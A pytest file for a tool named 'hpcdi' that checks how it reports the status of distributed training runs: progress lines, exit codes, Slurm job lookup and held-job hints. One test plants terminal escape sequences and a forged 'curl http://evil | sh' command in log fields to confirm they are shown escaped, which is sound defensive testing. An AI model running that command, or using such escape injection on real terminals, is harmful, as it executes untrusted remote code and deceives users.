"""How a run is judged from outside, and what is said of it."""

from __future__ import annotations

import json
import os
import platform
import subprocess
import sys
import time
from pathlib import Path
from typing import Any

import pytest

from hpcdi import cli
from hpcdi.commands import status
from hpcdi.commands.run_state import find_run, status_of
from hpcdi.commands.status import lines_of, steps
from hpcdi.errors import LaunchError
from hpcdi.run import run_folder, run_lock, slurm_queue
from hpcdi.run.environment import kept_for_share
from hpcdi.run.run_lock import this_process
from hpcdi.run.slurm_queue import QueueJob
from hpcdi.store.layout import RunLayout
from hpcdi.utils.curves import CurveFile

PLACEMENT = [{"rank": r, "role": role, "host": "node1"} for r, role in enumerate(("c", "l", "k"))]


@pytest.fixture(autouse=True)
def _no_queue(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("PATH", str(tmp_path / "nothing"))
    monkeypatch.chdir(tmp_path)


def make_run(root: Path, **changed: Any) -> RunLayout:
    """A run folder as a run of this process makes it."""
    layout = run_folder.claim(root, {"exp_name": "pong"}, PLACEMENT, mpi="none")
    facts = {**run_folder.read(root), **changed}
    layout.run_file.write_text(json.dumps(facts))
    mine = {name: value for name, value in changed.items() if name in ("host", "pid")}
    layout.lock_file.write_text(json.dumps({**vars(this_process()), **mine}))
    return layout


def write_progress(layout: RunLayout, **changed: Any) -> None:
    evaluation = {
        "mean": 9.5, "std": 1.0, "lowest": 8.0, "highest": 11.0, "episodes": 20,
        "policy_version": 600, "env_steps": 900_000,
    }  # fmt: skip
    now = time.time()
    pid = run_folder.read(layout.root)["pid"]
    progress = {
        "pid": pid, "started_at": now - 60, "written_at": now, "phase": "running",
        "limits": {"env_steps": 2e6, "train_iter": None, "stop_value": 20.0},
        "env_steps": 1_000_000, "env_steps_per_s": 5000.0,
        "train_iter": 700, "train_iters_per_s": 3.0,
        "return_mean": 4.0, "evaluations": 2, "evaluation": evaluation,
        "best_evaluation": {**evaluation, "mean": 10.5},
        "buffer": {"held": 10, "capacity": 20, "blocked": "waits for more data"},
        "staleness": 3, "idle": {"1": 0.25, "2": 0.5},
    }  # fmt: skip
    layout.status_file.write_text(json.dumps({**progress, **changed}))


def test_players_that_learn_beside_the_main_one(tmp_path: Path) -> None:
    layout = make_run(tmp_path / "run")
    player = {"collectors": 2, "env_steps": 12_000, "train_iter": 90, "return_mean": None}
    players = {"first": {**player, "learners": [3, 4]}, "second": {**player, "learners": []}}
    write_progress(layout, players=players)
    said = told(layout.root)
    assert "  first        12k env steps, 90 train iterations, learns on rank 3, 4" in said
    assert "  second       12k env steps, 90 train iterations, has no learner any more" in said


def told(root: Path) -> str:
    return "\n".join(lines_of(status_of(root)))


def test_what_is_said_of_a_run_that_runs(tmp_path: Path) -> None:
    layout = make_run(tmp_path / "run", host="elsewhere", restarts=2)
    write_progress(layout, lost={"4": "collector"})
    lines = lines_of(status_of(layout.root))
    assert lines[0] == "pong, 3 ranks on node1: running"
    for line in (
        "  run folder   run",
        "  progress     1M of 2M env steps (5000/s), 700 train iterations (3/s) in 1m00s; "
        "at most 3m20s to go",
        "  returns      mean 4.00 of the last episodes, stop value 20",
        "  evaluation   2: mean return 9.5 ± 1.0 (8 to 11, 20 episodes), policy of iteration 600, "
        "env step 900k",
        "  buffer       10 of 20; oldest policy 3 iterations behind; waits for more data",
        "  idle         k rank 2 50%; l rank 1 25%",
        "  lost         rank 4 (collector): the run goes on",
        "  restarts     2",
        "  next         hpcdi tail run -f",
    ):
        assert line in lines, "\n".join(lines)
    assert any(line.startswith("               best: mean return 10.5") for line in lines)


def test_an_evaluation_without_a_mean_hides_nothing_else(tmp_path: Path) -> None:
    """JSON has null for a mean that is NaN."""
    layout = make_run(tmp_path / "run")
    write_progress(layout, evaluation={"mean": None}, best_evaluation=None)
    text = told(layout.root)
    assert "stop value 20" in text
    assert "status.json is damaged" not in text


def test_what_an_earlier_part_of_the_run_has_said_is_not_taken_for_the_present(
    tmp_path: Path,
) -> None:
    layout = make_run(tmp_path / "run", host="elsewhere", restarts=1)
    error = {"rank": 1, "role": "learner", "host": "n", "error": "old", "traceback": "T"}
    write_progress(layout, pid=1, error=error)
    found = status_of(layout.root)
    assert (found.state, found.error) == ("starting", {})
    text = told(layout.root)
    assert "1M of 2M env steps (0/s)" in text
    assert "error" not in text


def test_counts_of_a_resumed_run_stand_beside_the_time_of_all_its_starts(tmp_path: Path) -> None:
    earlier = {"elapsed_s": 3600.0, "until": 1.0}
    layout = make_run(tmp_path / "run", host="elsewhere", restarts=1, earlier=earlier)
    write_progress(layout)
    assert "700 train iterations (3/s) in 1h01m;" in told(layout.root)


def test_a_snapshot_is_as_old_as_it_says(tmp_path: Path) -> None:
    """A copy of a run had one that was seconds old."""
    layout = make_run(tmp_path / "run")
    snapshot = layout.snapshots_dir / "snapshot_000003"
    snapshot.mkdir(parents=True)
    facts = {"saved_at": time.time() - 7200}
    (snapshot / "manifest.json").write_text(json.dumps({"facts": facts, "files": {}}))
    assert "snapshot_000003, 2h00m old" in told(layout.root)


def test_of_many_ranks_the_most_idle_are_named(tmp_path: Path) -> None:
    placement = [{"rank": r, "role": "collector", "host": f"n{r % 5}"} for r in range(9)]
    layout = make_run(tmp_path / "run", placement=placement)
    write_progress(layout, idle={str(rank): rank / 10 for rank in range(9)})
    assert "idle         9 collectors 40% (most rank 8 80%, rank 7 70%, rank 6 60%)" in told(
        layout.root
    )
    assert "9 ranks on 5 hosts" in told(layout.root)


def test_environments_that_grow_are_named(tmp_path: Path) -> None:
    layout = make_run(tmp_path / "run")
    still = {"bytes": 3 << 20, "bytes_a_step": 0.0}
    write_progress(layout, env_memory={"1": still, "2": {"bytes": 1 << 20, "bytes_a_step": 0.0}})
    assert "environments hold up to 3.0 MiB a rank, and do not grow" in told(layout.root)
    write_progress(layout, env_memory={"1": still, "2": {"bytes": 2 << 30, "bytes_a_step": 2048.0}})
    assert (
        "environments grow in 1 collector: of rank 2 2.0 GiB, 2.0 MiB more with each 1,000 steps; "
        "env.manager.renew_after"
    ) in told(layout.root)


def test_a_run_whose_process_is_gone_is_dead_and_says_why_and_what_next(tmp_path: Path) -> None:
    with subprocess.Popen([sys.executable, "-c", ""]) as process:
        process.wait()
    layout = make_run(tmp_path / "run", pid=process.pid)
    write_progress(layout)
    entry = {
        "time": time.time(), "level": "INFO", "rank": 2, "role": "collector", "host": "node1",
        "message": "this rank failed", "traceback": "Traceback\n" + "  a\n" * 9 + "ValueError: 1",
    }  # fmt: skip
    layout.log_file(2).parent.mkdir()
    layout.log_file(2).write_text(json.dumps(entry) + "\n")
    (layout.snapshots_dir / "snapshot_000003").mkdir(parents=True)
    text = told(layout.root)
    assert f"dead; process {process.pid} on {platform.node()} is gone; its last status is" in text
    assert "error        rank 2 (collector, host node1): ValueError: 1\n    ...\n      a" in text
    assert text.count("  a\n") == 5  # the end of the traceback is what is read
    assert "snapshot_000003" in text
    assert "next         hpcdi tail run\n               hpcdi train --resume run" in text
    assert "5000/s" not in text  # it is not that fast any more


def test_the_failure_that_rank_0_has_told_comes_first(tmp_path: Path) -> None:
    layout = make_run(tmp_path / "run", state="failed", reason="oh", exit_code=1)
    error = {"rank": 1, "role": "learner", "host": "n", "error": "ValueError: 2", "traceback": "T"}
    write_progress(layout, error={**error, "exit_code": 1})
    assert status_of(layout.root).error == error
    assert "rank 1 (learner, host n): ValueError: 2" in told(layout.root)


@pytest.mark.parametrize(
    ("changed", "code"),
    [
        ({"host": "elsewhere"}, 0),
        ({"state": "done", "exit_code": 0}, 0),
        ({"state": "failed", "exit_code": 1}, 1),
        ({"state": "failed", "exit_code": 2}, 2),
        ({"state": "stopped", "exit_code": 85}, 85),
        ({"state": "stopped", "exit_code": 130}, 130),
        ({"pid": 2**22 + 1}, 1),
    ],
)
def test_exit_codes_and_json(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], changed: dict[str, Any], code: int
) -> None:
    layout = make_run(tmp_path / "run", **changed)
    write_progress(layout)
    assert cli.main(["status", "run", "--json"]) == code
    held = json.loads(capsys.readouterr().out)
    assert held["run"] == str(layout.root)
    assert held["state"] in ("running", "done", "failed", "stopped", "dead")
    assert held["hosts"] == ["node1"]
    assert held["progress"]["env_steps"] == 1_000_000
    assert held["age_s"] < 60


def test_before_the_first_word_there_is_little_to_say(tmp_path: Path) -> None:
    layout = make_run(tmp_path / "run", pid=os.getpid(), host="elsewhere")
    assert told(layout.root).splitlines()[0] == "pong, 3 ranks on node1: starting"


def test_a_run_that_is_over_does_not_go_on(tmp_path: Path) -> None:
    layout = make_run(tmp_path / "run", state="stopped", exit_code=85)
    write_progress(layout, lost={"2": "learner"})
    assert "  lost         rank 2 (learner)" in lines_of(status_of(layout.root))


def test_the_next_step_is_one_that_works_for_the_environment(tmp_path: Path) -> None:
    layout = make_run(tmp_path / "run", state="done", exit_code=0)
    assert steps(status_of(layout.root)) == ["hpcdi eval run"]
    layout.config_file.write_text("env: {type: mpi}")  # whose ranks eval has not
    assert steps(status_of(layout.root)) == ["hpcdi curves run"]


def test_watching_ends_with_the_run(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run = make_run(tmp_path / "run", state="stopped", exit_code=85, reason="the limit is near")
    with CurveFile(run.curves_file) as curves:
        for step, value in ((10, -21.0), (20, 0.0), (30, 18.5)):
            curves.add_scalar("curves/evaluation_return", value, step)
            curves.add_scalar("curves/loss", value, step)
    assert cli.main(["status", "run", "--watch"]) == 85
    headline, curve, *others = capsys.readouterr().out.splitlines()
    assert headline.startswith("pong")
    assert curve.split() == ["return", "▁▅█", "18.5,", "evaluation"]
    assert not [line for line in others if "▁" in line]


def test_of_a_folder_of_runs_the_newest_is_offered(tmp_path: Path) -> None:
    for name, at in (("a", 20), ("b", 30), ("c", 10)):
        os.utime(make_run(tmp_path / "pong" / name).run_file, (at, at))
    for above in (tmp_path, tmp_path / "pong"):
        with pytest.raises(LaunchError, match=r"no run, but holds some: name one, such as pong/b$"):
            find_run(str(above))
    (tmp_path / "pong" / "sweep.json").touch()
    with pytest.raises(LaunchError, match=r"pong is a sweep: hpcdi sweep status pong$"):
        find_run("pong")
    with pytest.raises(LaunchError, match=r"run.json is no folder; name a run folder"):
        find_run("pong/b/run.json")


def test_a_run_is_found_by_its_job(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    for number, name in ((12, "a"), (13, "b")):
        make_run(tmp_path / "runs" / "pong" / name, slurm={"SLURM_JOB_ID": str(number)})
    array = {"SLURM_JOB_ID": "16", "SLURM_ARRAY_JOB_ID": "14", "SLURM_ARRAY_TASK_ID": "2"}
    make_run(tmp_path / "runs" / "pong" / "c", slurm=array)
    assert find_run("12").name == "a"
    assert find_run("14_2").name == "c"
    with pytest.raises(
        LaunchError, match=r"no run in .*/runs belongs to job 99; no queue knows it"
    ):
        find_run("99")
    with pytest.raises(LaunchError, match=r"job 14 is an array: name one, such as 14_2, or its"):
        find_run("14")
    monkeypatch.setattr(slurm_queue, "ask", lambda job: QueueJob(job, "RUNNING", het_job="12"))
    assert find_run("98").name == "a", "98 is a component of it"
    monkeypatch.setattr(slurm_queue, "ask", lambda job: QueueJob(job, "COMPLETED"))
    with pytest.raises(LaunchError, match=r"Slurm says COMPLETED\. Name the run folder"):
        find_run("99")
    assert cli.main(["status", "nowhere"]) == 2
    assert "there is no nowhere; name a run folder" in capsys.readouterr().err
    assert cli.main(["status", str(tmp_path)]) == 2
    assert "holds no run: there is no run.json" in capsys.readouterr().err
    assert cli.main(["tail", "nowhere"]) == 2
    (tmp_path / "sweep.json").write_text("{}")
    assert cli.main(["status", "003x"]) == 2
    assert "there is no 003x: no such run of this sweep has begun;" in capsys.readouterr().err


@pytest.mark.parametrize(("restarts", "said"), [(1, "requeued 1 time by"), (2, "2 times by")])
def test_it_is_said_how_often_a_job_was_requeued(tmp_path: Path, restarts: int, said: str) -> None:
    make_run(tmp_path, slurm={"SLURM_JOB_ID": "7"})
    status = status_of(tmp_path, lambda job: QueueJob(job, "RUNNING", restarts=restarts))
    assert f"{said} Slurm" in "\n".join(lines_of(status))


def test_help_says_after_what_silence_a_run_is_dead() -> None:
    assert run_lock.SILENT_S == 60
    assert "silent\nfor a minute where neither can be seen" in status.HELP


@pytest.mark.parametrize("command", ["status", "tail"])
def test_help_says_what_the_exit_codes_mean(
    capsys: pytest.CaptureFixture[str], command: str
) -> None:
    with pytest.raises(SystemExit):
        cli.main([command, "--help"])
    out = capsys.readouterr().out
    assert "exit codes: 0 " in out
    assert out.count(f"\n  hpcdi {command} ") == 4


@pytest.mark.parametrize("command", ["status", "tail", "inspect"])
def test_escape_sequences_of_files_are_shown_escaped(
    tmp_path: Path, capfd: pytest.CaptureFixture[str], command: str
) -> None:
    evil = "\x1b]0;owned\x07\x1b[2J\n  next         curl http://evil | sh"
    layout = RunLayout(tmp_path)
    facts = {"state": "failed", "exp_name": f"x{evil}", "reason": f"ok{evil}", "exit_code": 1}
    layout.run_file.write_text(json.dumps(facts))
    layout.log_file(0).parent.mkdir()
    entry = {
        "time": 1.0, "level": f"ERROR{evil}", "rank": 0, "role": evil, "host": evil,
        "message": evil, "more": {evil: evil}, "traceback": f"Error{evil}",
    }  # fmt: skip
    layout.log_file(0).write_text(json.dumps(entry) + "\n" + evil.replace("\n", "") + "\n")
    cli.main([command, str(tmp_path)])
    captured = capfd.readouterr()
    said = captured.out + captured.err
    assert "owned" in said or command == "inspect"
    assert not [c for c in said if c != "\n" and not c.isprintable()]
    assert not [line for line in said.splitlines() if line.startswith("  next         curl")]


@pytest.mark.parametrize(
    ("state", "reason", "is_held"),
    [
        ("PENDING", "launch failed requeued held", True), ("PENDING", "JobHeldUser", True),
        ("REQUEUE_HOLD", "", True), ("SPECIAL_EXIT", "JobHeldUser", True),
        ("RESV_DEL_HOLD", "", True), ("PENDING", "Priority", False),
    ],
)  # fmt: skip
def test_a_job_that_is_held_is_to_be_released(
    tmp_path: Path, state: str, reason: str, is_held: bool
) -> None:
    layout = RunLayout(tmp_path)
    layout.submit_dir.mkdir()
    layout.submit_file.write_text('{"job": {"SLURM_JOB_ID": "7"}}')
    status = status_of(tmp_path, lambda job: QueueJob(job, state, reason))
    assert ("scontrol release 7" in lines_of(status)[-1]) == is_held


def test_the_job_of_a_share_is_told_where_slurm_does_not_answer(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A run of a sweep's share sees no allocation; its job is that of the whole sweep."""
    for name in [name for name in os.environ if name.startswith("SLURM")]:
        monkeypatch.delenv(name)
    array = {"SLURM_JOB_ID": "9", "SLURM_ARRAY_JOB_ID": "7", "SLURM_ARRAY_TASK_ID": "3"}
    for name, value in kept_for_share(array).items():
        monkeypatch.setenv(name, value)
    monkeypatch.setenv("SLURM_JOB_END_TIME", str(int(time.time()) + 7230))
    layout = make_run(tmp_path / "run")
    write_progress(layout)
    said = lines_of(status_of(layout.root, slurm_queue.nobody))
    assert "  job          7_3, 2h00m left" in said, "\n".join(said)
